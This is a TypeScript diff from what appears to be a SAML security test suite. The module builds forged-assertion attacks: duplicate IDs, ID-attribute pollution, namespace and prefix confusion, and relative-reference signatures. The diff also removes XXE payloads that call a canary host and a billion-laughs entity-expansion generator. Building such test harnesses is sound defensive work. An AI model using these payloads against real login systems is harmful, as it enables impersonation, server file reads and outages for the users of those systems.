@@ -1,13 +1,13 @@
-import { assertionXml, responseXml } from '../../saml/response.ts';
+import { responseXml } from '../../saml/response.ts';
 import { signQuery } from '../../saml/sign.ts';
 import { namespaces, signatureAlgorithms } from '../../saml/vocabulary.ts';
-import { type Attack, played, type Text, type Variant } from '../attack.ts';
-import type { Forge } from '../forge/forge.ts';
+import type { Attack, Text, Variant } from '../attack.ts';
 import { forgedPerson, signedPerson } from '../forge/people.ts';
-import { afterIssuer, append, replaced, takeSignature, withId } from '../forge/pieces.ts';
+import { afterIssuer, replaced, takeSignature, withId } from '../forge/pieces.ts';
 import { canonical, digestOf, rawSignature, signatureOf, signedInfo } from '../forge/raw-signature.ts';
 import type { BegunLogin } from '../login.ts';
 import { changed, loose, looseTogether, only, type Part, whole } from './deliver.ts';
+import { attackOf, forgedAssertion } from './forged.ts';
 
 const anybody: Text = {
   de: 'Zwei Programmteile lesen dieselbe Nachricht verschieden: geprüft wird die echte Person, angemeldet die gefälschte.',
@@ -15,22 +15,14 @@ const anybody: Text = {
 };
 const lock = 'Fedotkin: The Fragile Lock (PortSwigger 2025)';
 
-type Facts = Pick<Attack, 'id' | 'title'> &
-  Partial<Attack> & { variants: (forge: Forge) => readonly Variant[] };
-
-const attack = ({ variants, ...own }: Facts): Attack => ({
+const attack = attackOf({
   group: 'structure',
   severity: 'critical',
   harm: anybody,
-  references: [],
   requirements: ['A3.10.02', 'A3.12.01', 'A3.12.06'],
   bad: 'login',
-  play: played(variants),
-  ...own,
 });
 
-const forged = (forge: Forge, login: BegunLogin): string =>
-  assertionXml(forge.assertionFor(login, forgedPerson));
 const words = (de: string, en: string): Text => ({ de, en });
 
 /** Other spellings of the attribute by which a reference finds its element. */
@@ -65,6 +57,7 @@ const doubled: readonly Attack[] = [
   }),
   attack({
     id: 'duplicate-id',
+    bad: 'identity',
     title: { de: 'Eine Kennung an zwei Elementen', en: 'One ID at two elements' },
     references: ['SAML Core 2.0, 1.3.4'],
     variants: (forge) => [
@@ -77,7 +70,7 @@ const doubled: readonly Attack[] = [
         (login) => {
           const { id, xml } = forge.signedAssertion(login, signedPerson);
           const { without, signature } = takeSignature(xml);
-          return [afterIssuer(withId(forged(forge, login), id), signature), without];
+          return [afterIssuer(withId(forgedAssertion(forge, login), id), signature), without];
         },
       ),
       ...loose(
@@ -109,6 +102,7 @@ const doubled: readonly Attack[] = [
   }),
   attack({
     id: 'id-attribute-pollution',
+    bad: 'identity',
     title: { de: 'Kennung in anderer Schreibweise untergeschoben', en: 'ID planted in another spelling' },
     references: [lock, 'CVE-2025-66568'],
     variants: (forge) =>
@@ -116,7 +110,7 @@ const doubled: readonly Attack[] = [
         loose(forge, words(`mit${spelling('…')}`, `with${spelling('…')}`), (login) => {
           const { id, xml } = forge.signedAssertion(login, signedPerson);
           const { without, signature } = takeSignature(xml);
-          const polluted = replaced(forged(forge, login), / ID="/, (found) => spelling(id) + found);
+          const polluted = replaced(forgedAssertion(forge, login), / ID="/, (found) => spelling(id) + found);
           return [afterIssuer(polluted, signature), without];
         }),
       ),
@@ -131,12 +125,13 @@ const confused: readonly Attack[] = [
     references: [lock],
     variants: (forge) =>
       looseTogether(forge, words('vor der echten', 'in front of the genuine one'), (login) => [
-        forged(forge, login).replaceAll(namespaces.assertion, 'urn:angriff'),
+        forgedAssertion(forge, login).replaceAll(namespaces.assertion, 'urn:angriff'),
         forge.signedAssertion(login, signedPerson).xml,
       ]),
   }),
   attack({
     id: 'namespace-confusion',
+    bad: 'identity',
     title: { de: 'Präfix der Signatur umgedeutet', en: 'Prefix of the signature redefined' },
     references: [lock, 'CVE-2025-25291', 'CVE-2025-25292', 'CVE-2025-66567'],
     variants: (forge) => [
@@ -144,20 +139,20 @@ const confused: readonly Attack[] = [
         const { xml } = forge.signedAssertion(login, signedPerson);
         const { signature } = takeSignature(xml);
         const fake = signature.replaceAll(namespaces.signature, 'urn:angriff');
-        return [afterIssuer(forged(forge, login), fake), xml];
+        return [afterIssuer(forgedAssertion(forge, login), fake), xml];
       }),
       ...loose(forge, words('falsche und echte Signatur', 'wrong and genuine signature'), (login) => {
         const { id, xml } = forge.signedAssertion(login, signedPerson);
         const { signature } = takeSignature(xml);
         const fake = signature.replaceAll(namespaces.signature, 'urn:angriff');
-        return [afterIssuer(withId(forged(forge, login), id), fake + signature)];
+        return [afterIssuer(withId(forgedAssertion(forge, login), id), fake + signature)];
       }),
       ...loose(
         forge,
         words('Präfix der Assertion umgedeutet', 'prefix of the assertion redefined'),
         (login) => {
           const { xml } = forge.signedAssertion(login, signedPerson);
-          const inner = forged(forge, login);
+          const inner = forgedAssertion(forge, login);
           return [`<saml2:Assertion xmlns:saml2="urn:angriff">${xml}${inner}</saml2:Assertion>`];
         },
       ),
@@ -177,13 +172,13 @@ const confused: readonly Attack[] = [
       });
       return [
         ...loose(forge, words('Inhalt', 'content'), (login) => {
-          const xml = relative(forged(forge, login));
+          const xml = relative(forgedAssertion(forge, login));
           return [
             afterIssuer(xml, rawSignature({ references: [reference(xml)] }, { key: forge.key, algorithm })),
           ];
         }),
         ...loose(forge, words('Inhalt und Signatur', 'content and signature'), (login) => {
-          const xml = relative(forged(forge, login));
+          const xml = relative(forgedAssertion(forge, login));
           const info = signedInfo({ method: signatureAlgorithms[algorithm], references: [reference(xml)] });
           const empty = replaced(info, '<ds:SignedInfo ', (begin) => `${begin}xmlns:leer="1" `);
           // A signature over nothing, as a stranger can have it of another empty message.
@@ -236,82 +231,5 @@ const confused: readonly Attack[] = [
 
 const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
 
-const laughs = Array.from({ length: 9 }, (_, level) =>
-  level === 0
-    ? '<!ENTITY a0 "hahahahahahahahahaha">'
-    : `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`,
-).join('');
-
-/** Right answers with a document type in front. */
-const typed: readonly Attack[] = [
-  attack({
-    id: 'document-type',
-    severity: 'serious',
-    title: { de: 'Dokumenttyp (DTD) in der Nachricht', en: 'Document type (DTD) in the message' },
-    harm: {
-      de: 'Über den Dokumenttyp lassen sich Dateien lesen, interne Adressen aufrufen und Werte austauschen.',
-      en: 'A document type can read files, call internal addresses and exchange values.',
-    },
-    references: ['OWASP XML Security Cheat Sheet'],
-    requirements: ['A3.12.01', 'A3.12.03'],
-    variants: (forge) => [
-      whole(words('leer', 'empty'), (login) => `<!DOCTYPE saml2p:Response>${forge.answer(login)}`),
-      whole(
-        words('mit Kennung als ID', 'with an attribute of type ID'),
-        (login) => `<!DOCTYPE r [<!ATTLIST saml2:Assertion ID ID #IMPLIED>]>${forge.answer(login)}`,
-      ),
-    ],
-  }),
-  attack({
-    id: 'external-entity',
-    severity: 'critical',
-    bad: 'login',
-    title: { de: 'Externe Entität (XXE)', en: 'External entity (XXE)' },
-    harm: {
-      de: 'Die Anwendung liest auf Wunsch eines Fremden Dateien des Servers oder ruft interne Adressen auf.',
-      en: 'The application reads files of the server or calls internal addresses at the wish of a stranger.',
-    },
-    references: ['CWE-611'],
-    requirements: ['A3.12.01', 'A3.12.03', 'A3.6.01'],
-    variants: (forge) => [
-      whole(
-        words('allgemeine Entität', 'general entity'),
-        (login) =>
-          `<!DOCTYPE r [<!ENTITY x SYSTEM "${forge.canary}/entitaet">]>${append(forge.wrap(login, [forge.encrypt(forged(forge, login))]), '&x;')}`,
-      ),
-      whole(
-        words('Parameterentität', 'parameter entity'),
-        (login) =>
-          `<!DOCTYPE r [<!ENTITY % x SYSTEM "${forge.canary}/parameter"> %x;]>${forge.answer(login)}`,
-      ),
-      whole(
-        words('externer Dokumenttyp', 'external document type'),
-        (login) => `<!DOCTYPE r SYSTEM "${forge.canary}/dokumenttyp">${forge.answer(login)}`,
-      ),
-      ...loose(forge, words('in der Assertion', 'in the assertion'), (login) => [
-        `<!DOCTYPE r [<!ENTITY x SYSTEM "${forge.canary}/innen">]>${append(forged(forge, login), '&x;')}`,
-      ]).slice(1),
-    ],
-  }),
-  attack({
-    id: 'entity-expansion',
-    severity: 'serious',
-    bad: 'outage',
-    title: { de: 'Vervielfältigte Entitäten („Billion Laughs“)', en: 'Multiplied entities (billion laughs)' },
-    harm: {
-      de: 'Eine kleine Nachricht füllt den Speicher; die Anmeldung aller Bürgerinnen und Bürger steht still.',
-      en: 'A small message fills the memory; the login of all citizens stands still.',
-    },
-    references: ['CWE-776'],
-    requirements: ['A3.12.01', 'A3.13.01'],
-    variants: (forge) => [
-      whole(only, (login) => `<!DOCTYPE r [${laughs}]>${append(forge.wrap(login, []), '&a8;')}`),
-      ...loose(forge, words('in der Assertion', 'in the assertion'), (login) => [
-        `<!DOCTYPE r [${laughs}]>${append(forged(forge, login), '&a8;')}`,
-      ]).slice(1),
-    ],
-  }),
-];
-
-/** Elements twice, names with two meanings, and document types. */
-export const structureAttacks: readonly Attack[] = [...doubled, ...confused, ...typed];
+/** Elements twice, and names with two meanings. */
+export const structureAttacks: readonly Attack[] = [...doubled, ...confused];
